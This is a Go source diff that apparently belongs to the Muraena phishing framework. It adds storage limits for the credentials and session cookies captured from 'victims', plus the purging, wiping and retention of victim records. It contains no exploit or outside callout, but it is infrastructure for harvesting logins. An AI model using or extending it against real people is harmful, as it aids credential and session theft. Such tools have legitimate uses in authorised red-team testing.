@@ -0,0 +1,135 @@
+package db
+
+import (
+	"time"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// seenLayout is the layout of the victim first and last seen times
+const seenLayout = "2006-01-02 15:04:05"
+
+// limitedStorage caps the credentials and cookies stored per victim.
+// Once a limit is reached, the new values are discarded, while the stored cookies can still be updated.
+type limitedStorage struct {
+	Storage
+	maxCredentials int
+	maxCookies     int
+}
+
+// StoreCredential implements the Storage interface
+func (s *limitedStorage) StoreCredential(victimID string, c *VictimCredential) error {
+	if s.maxCredentials > 0 {
+		credentials, err := s.Storage.GetCredentials(victimID)
+		if err != nil {
+			return err
+		}
+		if len(credentials) >= s.maxCredentials {
+			log.Debug("victim %s reached %d credentials, %s not stored", victimID, s.maxCredentials, c.Key)
+			return nil
+		}
+	}
+
+	return s.Storage.StoreCredential(victimID, c)
+}
+
+// StoreCookie implements the Storage interface
+func (s *limitedStorage) StoreCookie(victimID string, c *VictimCookie) error {
+	if s.maxCookies > 0 {
+		jar, err := s.Storage.GetCookies(victimID)
+		if err != nil {
+			return err
+		}
+
+		stored := false
+		for _, cookie := range jar {
+			if cookie.Name == c.Name {
+				stored = true
+				break
+			}
+		}
+
+		if !stored && len(jar) >= s.maxCookies {
+			log.Debug("victim %s reached %d cookies, %s not stored", victimID, s.maxCookies, c.Name)
+			return nil
+		}
+	}
+
+	return s.Storage.StoreCookie(victimID, c)
+}
+
+// expired tells if the victim has not been seen since before cutoff
+func expired(v *Victim, cutoff time.Time) bool {
+	seen := v.LastSeen
+	if seen == "" {
+		seen = v.FirstSeen
+	}
+
+	t, err := time.Parse(seenLayout, seen)
+	if err != nil {
+		return false
+	}
+
+	return t.Before(cutoff)
+}
+
+// Purge deletes the victims not seen for more than maxAge and returns how many have been deleted
+func Purge(maxAge time.Duration) (purged int, err error) {
+	ids, err := backend.GetVictimIDs()
+	if err != nil {
+		return
+	}
+
+	cutoff := time.Now().UTC().Add(-maxAge)
+	done := make(map[string]bool)
+	for _, id := range ids {
+		if done[id] {
+			continue
+		}
+		done[id] = true
+
+		v, err := backend.GetVictim(id)
+		if err != nil {
+			log.Error("error fetching victim %s: %s", id, err)
+			continue
+		}
+
+		if !expired(v, cutoff) {
+			continue
+		}
+
+		if err := backend.DeleteVictim(id); err != nil {
+			log.Error("error purging victim %s: %s", id, err)
+			continue
+		}
+		purged++
+	}
+
+	return
+}
+
+// Wipe deletes all the tracking data
+func Wipe() error {
+	return backend.Wipe()
+}
+
+// retain purges the expired victims every interval
+func retain(maxAge, interval time.Duration) {
+	for {
+		// In a cluster, the data is shared and purged by the leader only
+		if !session.IsLeader() {
+			time.Sleep(interval)
+			continue
+		}
+
+		purged, err := Purge(maxAge)
+		if err != nil {
+			log.Error("Error purging the expired victims: %s", err)
+		} else if purged > 0 {
+			log.Info("Purged %d victims older than %s", purged, maxAge)
+		}
+
+		time.Sleep(interval)
+	}
+}